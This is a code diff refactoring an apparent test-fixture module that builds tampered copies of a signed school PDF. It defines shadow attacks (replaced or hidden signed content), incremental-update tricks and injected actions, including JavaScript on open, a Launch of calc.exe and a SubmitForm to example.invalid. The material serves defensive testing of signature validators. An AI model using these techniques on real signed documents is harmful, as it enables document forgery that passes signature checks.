@@ -28,13 +28,30 @@ def _with(body: bytes, entries: bytes) -> bytes:
     return body[:at] + b" " + entries + b" " + body[at:]
 
 
-def _changed(material: Material, name: str, entries: bytes, more: Mapping[int, bytes] | None = None) -> bytes:
+def changed(
+    material: Material,
+    name: str,
+    entries: bytes,
+    more: Mapping[int, bytes] | None = None,
+    *,
+    of: bytes | None = None,
+) -> bytes:
+    """Return the file, or that of its revisions that is given, with entries added to an object, and more objects."""
     objects = {material.numbers[name]: _with(material.body(name), entries), **(more or {})}
-    return appended(material.pdf, objects)
+    return appended(of or material.pdf, objects)
 
 
-def _instead(material: Material, name: str, content: bytes, *, table: bool = True) -> bytes:
-    return appended(material.pdf, {material.numbers[name]: content}, table=table)
+def instead(
+    material: Material,
+    name: str,
+    content: bytes,
+    more: Mapping[int, bytes] | None = None,
+    *,
+    of: bytes | None = None,
+    table: bool = True,
+) -> bytes:
+    """Return the same with an object replaced."""
+    return appended(of or material.pdf, {material.numbers[name]: content, **(more or {})}, table=table)
 
 
 _ANNOTATIONS = {
@@ -53,12 +70,12 @@ _ANNOTATIONS = {
 
 def _annotated(material: Material, annotation: bytes) -> bytes:
     more = {_NEW: b"<< /Type /Annot /Rect [60 60 500 700] /F 4 %b >>" % annotation}
-    return _changed(material, "page", b"/Annots [%d 0 R]" % _NEW, more)
+    return changed(material, "page", b"/Annots [%d 0 R]" % _NEW, more)
 
 
 def _in_the_form(material: Material, field: bytes) -> bytes:
     more = {_NEW: b"<< /Type /Annot /Subtype /Widget /Rect [60 60 200 90] %b >>" % field}
-    return _changed(material, "form", b"/Fields [%d 0 R]" % _NEW, more)
+    return changed(material, "form", b"/Fields [%d 0 R]" % _NEW, more)
 
 
 _HIDDEN_LAYER = b"/OCProperties << /OCGs [%d 0 R] /D << /OFF [%d 0 R] >> >>" % (_NEW, _NEW)
@@ -66,31 +83,31 @@ _LAYER: Mapping[int, bytes] = {_NEW: b"<< /Type /OCG /Name (Trang that) >>"}
 
 SHADOWS: Attacks = {
     # Shadow attacks, "replace": what was signed is replaced by what lay in wait, or by what is new.
-    "replaced-contents": lambda m: _instead(m, "contents", stream(_WORDS)),
-    "replaced-page": lambda m: _changed(m, "page", b"/Contents %d 0 R" % _NEW, {_NEW: stream(_WORDS)}),
-    "replaced-page-tree": lambda m: _instead(m, "pages", b"<< /Type /Pages /Kids [] /Count 0 >>"),
-    "replaced-font-file": lambda m: _instead(m, "font-file", stream(b"\0\1\0\0")),
-    "replaced-font": lambda m: _instead(
+    "replaced-contents": lambda m: instead(m, "contents", stream(_WORDS)),
+    "replaced-page": lambda m: changed(m, "page", b"/Contents %d 0 R" % _NEW, {_NEW: stream(_WORDS)}),
+    "replaced-page-tree": lambda m: instead(m, "pages", b"<< /Type /Pages /Kids [] /Count 0 >>"),
+    "replaced-font-file": lambda m: instead(m, "font-file", stream(b"\0\1\0\0")),
+    "replaced-font": lambda m: instead(
         m, "font", b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"
     ),
-    "replaced-to-unicode": lambda m: _instead(m, "to-unicode", stream(b"begincmap endcmap")),
-    "replaced-metadata": lambda m: _instead(m, "metadata", stream(b"<x/>", b"/Type /Metadata")),
-    "replaced-information": lambda m: _instead(m, "information", b"<< /Title (Khac) >>"),
-    "replaced-attachment": lambda m: _instead(m, "attachment", stream(b"{}", b"/Type /EmbeddedFile")),
-    "replaced-attachment-of-another-student": lambda m: _instead(
+    "replaced-to-unicode": lambda m: instead(m, "to-unicode", stream(b"begincmap endcmap")),
+    "replaced-metadata": lambda m: instead(m, "metadata", stream(b"<x/>", b"/Type /Metadata")),
+    "replaced-information": lambda m: instead(m, "information", b"<< /Title (Khac) >>"),
+    "replaced-attachment": lambda m: instead(m, "attachment", stream(b"{}", b"/Type /EmbeddedFile")),
+    "replaced-attachment-of-another-student": lambda m: instead(
         m, "attachment", stream(_data_of(m.other), b"/Type /EmbeddedFile")
     ),
-    "replaced-seal-panel": lambda m: _instead(m, "seal-panel", stream(b"", b"/Type /XObject")),
-    "replaced-form": lambda m: _instead(m, "form", b"<< /Fields [] /SigFlags 0 >>"),
-    "replaced-catalog": lambda m: _instead(
+    "replaced-seal-panel": lambda m: instead(m, "seal-panel", stream(b"", b"/Type /XObject")),
+    "replaced-form": lambda m: instead(m, "form", b"<< /Fields [] /SigFlags 0 >>"),
+    "replaced-catalog": lambda m: instead(
         m, "catalog", b"<< /Type /Catalog /Pages %d 0 R >>" % m.numbers["pages"]
     ),
-    "replaced-field-of-the-seal": lambda m: _changed(m, "seal-field", b"/V null"),
-    "replaced-value-of-the-seal": lambda m: _instead(m, "seal", b"<< /Type /Sig >>"),
+    "replaced-field-of-the-seal": lambda m: changed(m, "seal-field", b"/V null"),
+    "replaced-value-of-the-seal": lambda m: instead(m, "seal", b"<< /Type /Sig >>"),
     "freed-page-contents": lambda m: _freed(m, "contents"),
     # Shadow attacks, "hide": a layer or a form lies over what was signed.
-    "hidden-layer": lambda m: _changed(m, "catalog", _HIDDEN_LAYER, _LAYER),
-    "hidden-by-a-form-object": lambda m: _changed(
+    "hidden-layer": lambda m: changed(m, "catalog", _HIDDEN_LAYER, _LAYER),
+    "hidden-by-a-form-object": lambda m: changed(
         m, "page", b"/Contents [%d 0 R %d 0 R]" % (m.numbers["contents"], _NEW), {_NEW: stream(_WORDS)}
     ),
     "other-root": lambda m: _other_root(m, table=True),
@@ -101,21 +118,21 @@ ANNOTATIONS: Attacks = {
     **{f"annotation-{name}": partial(_annotated, annotation=text) for name, text in _ANNOTATIONS.items()},
     "form-with-a-text-field": partial(_in_the_form, field=b"/FT /Tx /T (ten) /V (Nguyen Van B)"),
     "form-with-an-empty-signature": partial(_in_the_form, field=b"/FT /Sig /T (NhaTruong)"),
-    "form-that-asks-for-appearances": lambda m: _changed(m, "form", b"/NeedAppearances true"),
-    "form-with-an-xfa-page": lambda m: _changed(m, "form", b"/XFA %d 0 R" % _NEW, {_NEW: stream(b"<xdp/>")}),
-    "form-with-other-defaults": lambda m: _changed(m, "form", b"/DR << /Font << >> >> /DA (/f0 1 Tf)"),
-    "script-when-opened": lambda m: _changed(
+    "form-that-asks-for-appearances": lambda m: changed(m, "form", b"/NeedAppearances true"),
+    "form-with-an-xfa-page": lambda m: changed(m, "form", b"/XFA %d 0 R" % _NEW, {_NEW: stream(b"<xdp/>")}),
+    "form-with-other-defaults": lambda m: changed(m, "form", b"/DR << /Font << >> >> /DA (/f0 1 Tf)"),
+    "script-when-opened": lambda m: changed(
         m, "catalog", b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
     ),
-    "script-when-printed": lambda m: _changed(
+    "script-when-printed": lambda m: changed(
         m, "catalog", b"/AA << /WP << /S /JavaScript /JS (this.print\\(\\)) >> >>"
     ),
-    "script-of-a-page": lambda m: _changed(m, "page", b"/AA << /O << /S /JavaScript /JS (1) >> >>"),
-    "script-by-name": lambda m: _changed(
+    "script-of-a-page": lambda m: changed(m, "page", b"/AA << /O << /S /JavaScript /JS (1) >> >>"),
+    "script-by-name": lambda m: changed(
         m, "catalog", b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"
     ),
-    "launch-of-a-program": lambda m: _changed(m, "catalog", b"/OpenAction << /S /Launch /F (calc.exe) >>"),
-    "form-sent-elsewhere": lambda m: _changed(
+    "launch-of-a-program": lambda m: changed(m, "catalog", b"/OpenAction << /S /Launch /F (calc.exe) >>"),
+    "form-sent-elsewhere": lambda m: changed(
         m, "catalog", b"/OpenAction << /S /SubmitForm /F (https://example.invalid/) >>"
     ),
 }
@@ -209,13 +226,13 @@ def _by_pypdf(material: Material) -> bytes:
 INCREMENTS: Attacks = {
     "increment-empty": lambda m: appended(m.pdf, {}),
     "increment-of-an-unused-object": lambda m: appended(m.pdf, {_NEW: b"<< /A 1 >>"}),
-    "increment-without-table": lambda m: _instead(m, "contents", stream(_WORDS), table=False),
+    "increment-without-table": lambda m: instead(m, "contents", stream(_WORDS), table=False),
     "increment-without-table-but-an-end": lambda m: (
-        _instead(m, "contents", stream(_WORDS), table=False) + b"startxref\n0\n" + END
+        instead(m, "contents", stream(_WORDS), table=False) + b"startxref\n0\n" + END
     ),
     "increment-without-trailer": _without_trailer,
     "increment-with-the-old-table": lambda m: (
-        _instead(m, "contents", stream(_WORDS), table=False) + m.pdf[m.pdf.rindex(b"startxref\n") :]
+        instead(m, "contents", stream(_WORDS), table=False) + m.pdf[m.pdf.rindex(b"startxref\n") :]
     ),
     "increment-with-the-seal-value-again": lambda m: appended(m.pdf, {_NEW: m.body("seal")}),
     "increment-by-pyhanko": partial(_by_pyhanko, change=_new_title),
